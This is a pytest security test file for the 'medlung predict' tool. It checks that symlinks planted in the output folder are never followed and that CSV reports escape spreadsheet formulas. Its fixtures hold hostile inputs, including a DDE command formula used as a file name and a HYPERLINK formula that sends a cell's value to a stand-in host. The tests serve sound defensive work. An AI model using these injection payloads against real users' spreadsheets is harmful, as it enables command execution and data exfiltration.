"""Nothing is written outside OUT, and no CSV cell runs as a formula, on every path of ``medlung predict``.

Symbolic links to files outside OUT are planted in OUT where every output and
report goes (dangling ones, and ones to an existing file whose content must
stay), then the same films go through the plain run, ``--workers 2``,
``--scheduler local:1`` and ``python -m monai.bundle run``. The films are
named and identified like an attacker would (``=cmd|'calc'!A0.dcm``, a
PatientID ``=HYPERLINK(...)``).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from medlung.tables import spreadsheet_cell
from tests import dicom_factory as factory
from tests.bundle.conftest import bundle_cli

HOSTILE_NAME = "=cmd|'calc'!A0"
HOSTILE_ID = '=HYPERLINK("http://x.example/?"&A1,"open")'
OUTPUT_SUFFIXES = ("_seg.dcm", "_lungs.png", "_labels.nii.gz", "_overlay.png", "_labels.mha")
REPORTS = ("report.csv", "report.json", ".report.json.part")
PROTECTED = b"not medlung's to change\n"


@pytest.fixture(scope="module")
def films(shenzhen_pixels, tmp_path_factory) -> Path:
    """A DICOM film with a formula for a name and a PatientID, and a PNG film."""
    folder = tmp_path_factory.mktemp("films")
    small = np.asarray(Image.fromarray(shenzhen_pixels).resize((256, 256))).astype(np.uint16) * 16
    ds = factory.radiograph(small, factory.CR, bits_stored=12, PixelSpacing=[1.4, 1.4], PatientID=HOSTILE_ID)
    factory.write(ds, folder / f"{HOSTILE_NAME}.dcm")
    Image.fromarray(shenzhen_pixels).resize((256, 256)).save(folder / "plain.png")
    return folder


def plant_links(out: Path, outside: Path) -> dict[Path, bytes | None]:
    """Links in OUT for every output and report: to missing files outside, and to one existing file."""
    out.mkdir(parents=True)
    outside.mkdir(parents=True)
    existing = outside / "existing.txt"
    existing.write_bytes(PROTECTED)
    targets: dict[Path, bytes | None] = {existing: PROTECTED}
    names = [f"{stem}{suffix}" for stem in ("_cmd__calc__A0", "plain") for suffix in OUTPUT_SUFFIXES]
    for index, name in enumerate([*names, *REPORTS]):
        if index % 3 == 0:
            (out / name).symlink_to(existing)
        else:
            target = outside / f"missing-{index}"
            (out / name).symlink_to(target)
            targets[target] = None
    return targets


def assert_nothing_written_outside(out: Path, outside: Path, targets: dict[Path, bytes | None]) -> None:
    for target, content in targets.items():
        if content is None:
            assert not target.exists(), f"{target} was created through a link in OUT"
        else:
            assert target.read_bytes() == content, f"{target} was written through a link in OUT"
    assert sorted(p.name for p in outside.iterdir()) == ["existing.txt"]
    for path in out.rglob("*"):
        if not path.is_symlink():  # a planted link medlung had no reason to touch may stay
            assert not path.name.endswith(".part"), f"temporary left behind: {path}"
            assert path.resolve().is_relative_to(out.resolve())


def assert_report_cells_are_inert(out: Path, identifiers: bool) -> None:
    rows = list(csv.DictReader(open(out / "report.csv", newline="")))
    assert len(rows) == 2, rows
    hostile = next(r for r in rows if HOSTILE_NAME in r["file"])
    assert hostile["status"] == "ok", hostile
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus
    if identifiers:
        assert hostile["patient_id"] == "'" + HOSTILE_ID
    records = json.loads((out / "report.json").read_text())  # JSON keeps the values as they are
    assert any(Path(r["file"]).name == f"{HOSTILE_NAME}.dcm" for r in records)


def _env(bundle: Path) -> dict:
    return {**os.environ, "MEDLUNG_BUNDLE": str(bundle), "MEDLUNG_NO_PROGRESS": "1"}


def _predict(films: Path, out: Path, bundle: Path, *extra: str) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "medlung", "predict", str(films), "-o", str(out), "--device", "cpu"]
    command += ["--format", "seg,png,nifti,overlay,mha", "--overwrite", *extra]
    return subprocess.run(command, capture_output=True, text=True, env=_env(bundle), timeout=600)


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param((), id="plain"),
        pytest.param(("--workers", "2"), id="workers"),
        pytest.param(("--scheduler", "local:1"), id="scheduler", marks=pytest.mark.slow),
    ],
)
def test_links_planted_in_out_are_replaced_not_followed(films, shipped_bundle, tmp_path, extra):
    out, outside = tmp_path / "out", tmp_path / "outside"
    targets = plant_links(out, outside)
    result = _predict(films, out, shipped_bundle, "--include-identifiers", *extra)
    assert result.returncode == 0, result.stderr[-3000:]
    assert_nothing_written_outside(out, outside, targets)
    assert not (out / "report.csv").is_symlink() and not (out / "report.json").is_symlink()
    assert_report_cells_are_inert(out, identifiers=True)


def test_links_in_out_without_overwrite_are_moved_aside_or_left_never_followed(films, shipped_bundle, tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    targets = plant_links(out, outside)
    command = [sys.executable, "-m", "medlung", "predict", str(films), "-o", str(out), "--device", "cpu"]
    result = subprocess.run(command, capture_output=True, text=True, env=_env(shipped_bundle), timeout=600)
    assert result.returncode in (0, 1), result.stderr[-3000:]
    assert_nothing_written_outside(out, outside, targets)


@pytest.mark.slow
def test_the_bundle_run_keeps_its_outputs_in_out(films, shipped_bundle, tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    targets = plant_links(out, outside)
    result = bundle_cli(
        "run",
        "--bundle_root",
        shipped_bundle,
        "--config_file",
        shipped_bundle / "configs" / "inference.json",
        "--dataset_dir",
        films,
        "--output_dir",
        out,
        "--overwrite",
        "true",
        "--device",
        "cpu",
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert_nothing_written_outside(out, outside, targets)
    assert_report_cells_are_inert(out, identifiers=False)


def test_spreadsheet_cells():
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("+cmd") == "'+cmd" and spreadsheet_cell("-cmd") == "'-cmd"
    assert spreadsheet_cell("\tx") == "'\tx" and spreadsheet_cell("\rx") == "'\rx"
    assert spreadsheet_cell("-1.5") == "-1.5" and spreadsheet_cell("+2e3") == "+2e3" and spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("lungs: ok") == "lungs: ok" and spreadsheet_cell(None) is None


def test_every_csv_medlung_writes_escapes_formulas(tmp_path):
    """evaluate's metrics.csv and training's metrics.csv go through the same cells as report.csv."""
    from medlung.training.loop import METRIC_COLUMNS, _write_metrics

    history = [dict.fromkeys(METRIC_COLUMNS, "=2+3") | {"epoch": 1}]
    _write_metrics(tmp_path / "metrics.csv", history)
    row = next(csv.DictReader(open(tmp_path / "metrics.csv", newline="")))
    assert row["train_loss"] == "'=2+3"

    from medlung.evaluation import write_outputs as write_evaluation

    (tmp_path / "eval").mkdir()
    rows = [{"film": "=cmd|x", "status": "error", "spacing_mm": [0.15, 0.15]}]
    try:
        write_evaluation(tmp_path / "eval", rows, {}, [], False)
    except Exception:  # the figures need scores; metrics.csv is written first
        pass
    row = next(csv.DictReader(open(tmp_path / "eval" / "metrics.csv", newline="")))
    assert row["film"] == "'=cmd|x" and row["spacing_mm"] == "0.15;0.15"  # the spacing cell of report.csv
